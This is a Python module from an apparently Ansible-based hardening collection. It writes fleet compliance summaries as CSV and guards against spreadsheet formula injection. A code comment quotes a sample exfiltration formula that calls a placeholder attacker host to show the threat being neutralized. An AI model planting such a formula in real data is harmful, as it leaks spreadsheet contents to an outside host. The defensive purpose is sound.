# -*- coding: utf-8 -*-
# Copyright: contributors to hardening.signal
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Render a fleet summary (schemas/fleet_summary.schema.json) as CSV, one row per subject and result.

Columns (CSV_COLUMNS): the subject (id, kind, platform, owner, source name,
state), the result (control, the control's section, status, reason,
observed and expected as JSON), the expiry date of the waiver that
covers it, if any, and the run's id (the same on every row: a file copied
out of its run's folder still names its run). A subject without any result (one that could not be
collected, when the summary carries no ``collection`` result for it) still
gets one row, with the control, section and status cells empty and its
error as the reason, so no subject is missing from the file.

Results only: the gate is not in the CSV (a row of another shape would break
every reader that takes each row as a result); the JSON, Markdown, HTML and
JUnit reports carry it, and the README says so.

RFC 4180 dialect (comma, double quotes, CRLF), UTF-8 without a byte-order
mark: the text csv.writer(dialect='excel', lineterminator='\\r\\n') writes,
made here line by line with field(), which quotes as it does. (csv.writer
took a third of the 6 s a 50,000-subject fleet took; the cells that repeat
are now quoted once.) iter_csv() yields the text in pieces of
SUBJECTS_PER_CHUNK subjects, so a 50,000-subject fleet is never held as one
string.
"""

from __future__ import annotations

import json

from ansible_collections.hardening.signal.plugins.module_utils.report.visible import visible

CSV_FILE = 'fleet-summary.csv'
CSV_COLUMNS = ('subject_id', 'kind', 'platform', 'owner', 'source', 'state', 'control', 'section', 'status',
               'reason', 'observed', 'expected', 'waiver_expires', 'run')
SUBJECTS_PER_CHUNK = 500

# Formula injection (CWE-1236): a spreadsheet that opens this file runs a cell starting with
# = + - @ as a formula (a leading tab or CR can hide such a character, so those count too). The
# data comes from devices and MDM exports that anyone may have named: an owner or a reason such
# as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run in the reader's spreadsheet,
# with the reader's rights. So every cell that comes from the data and starts with one of them
# gets a leading apostrophe, which spreadsheets take as "this is text" (OWASP's advice). A
# script reading the file sees the apostrophe; that is the price. It applies to the JSON cells
# too, where only a negative number can start with '-': it reads '-5.
_FORMULA_START = ('=', '+', '-', '@', '\t', '\r')


def cell(value):
    """One data value as a CSV cell: '' for None, hiding and control characters made visible, neutralized if a
    spreadsheet would run it."""
    if value is None:
        return ''
    text = visible(value)
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


# Compact JSON, keys sorted, non-ASCII kept. One encoder for the whole file: json.dumps would build
# one per call, for the two JSON cells of every row. The summary holds JSON data (it has passed the
# schema), which cannot be circular, so that check is off.
_encode = json.JSONEncoder(ensure_ascii=False, sort_keys=True, separators=(',', ':'), default=str,
                           check_circular=False).encode
_ABSENT = object()


def field(text):
    """A cell's text as a CSV field: quoted, as csv.writer's QUOTE_MINIMAL does, when it holds , " CR or LF."""
    if '"' in text:
        return '"%s"' % text.replace('"', '""')
    if ',' in text or '\n' in text or '\r' in text:
        return '"%s"' % text
    return text


def _waiver_expires(evidence):
    waiver = evidence.get('waiver') if isinstance(evidence, dict) else None
    return field(cell(waiver.get('expires'))) if isinstance(waiver, dict) else ''


_SCALARS = (str, int, float, bool, type(None))


class _Lines(object):
    """The CSV lines of the subjects, with the fields that repeat across the fleet made once."""

    def __init__(self, summary):
        # control id -> 'control,section,' ; (control, status) -> 'control,section,status,'
        self.controls = {}
        for control in summary.get('controls') or ():
            self.controls.setdefault(control.get('id'), '%s,%s,' % (field(cell(control.get('id'))), field(cell(control.get('section')))))
        self.middles = {}
        self.scalars = {}   # (type, value) -> the JSON field of a scalar observed/expected value
        self.end = ',%s\r\n' % field(cell((summary.get('run') or {}).get('id')))

    def _middle(self, control, status):
        known = self.controls.get(control)
        if known is None:
            known = self.controls[control] = '%s,,' % field(cell(control))
        text = self.middles[(control, status)] = '%s%s,' % (known, field(cell(status)))
        return text

    def _json_field(self, value):
        if isinstance(value, _SCALARS):
            key = (type(value), value)
            text = self.scalars.get(key)
            if text is None:
                text = self.scalars[key] = field(_json_cell(value))
            return text
        return field(_json_cell(value))

    def subject(self, subject, out):
        """Append the subject's lines to out."""
        source = subject.get('source') or {}
        head = '%s,%s,%s,%s,%s,%s,' % tuple(field(cell(value)) for value in (
            subject.get('id'), subject.get('kind'), subject.get('platform'), subject.get('owner'), source.get('name'),
            subject.get('state')))
        results = subject.get('results') or ()
        if not results:
            out.append('%s,,,%s,,,%s' % (head, field(cell(subject.get('error'))), self.end))
            return
        middles, json_field, absent, end = self.middles, self._json_field, _ABSENT, self.end
        for result in results:
            control, status = result.get('control'), result.get('status')
            middle = middles.get((control, status)) or self._middle(control, status)
            observed = result.get('observed', absent)
            expected = result.get('expected', absent)
            evidence = result.get('evidence')
            out.append('%s%s%s,%s,%s,%s%s' % (
                head, middle, field(cell(result.get('reason'))),
                '' if observed is absent else json_field(observed),
                '' if expected is absent else json_field(expected),
                _waiver_expires(evidence) if evidence else '', end))


def _json_cell(value):
    # JSON text starts with { [ " a digit, t, f, n or '-': only a negative number needs the apostrophe.
    # JSON escapes control characters itself; bidirectional and zero-width ones it leaves as they are.
    text = visible(_encode(value))
    return "'" + text if text[:1] == '-' else text


def iter_csv(summary):
    """render_csv(summary), the same text, in pieces of at most SUBJECTS_PER_CHUNK subjects."""
    lines = _Lines(summary)
    yield ','.join(CSV_COLUMNS) + '\r\n'
    subjects = summary.get('subjects') or ()
    for start in range(0, len(subjects), SUBJECTS_PER_CHUNK):
        out = []
        for subject in subjects[start:start + SUBJECTS_PER_CHUNK]:
            lines.subject(subject, out)
        yield ''.join(out)


def render_csv(summary):
    """Return the fleet summary as CSV text (a str)."""
    return ''.join(iter_csv(summary))
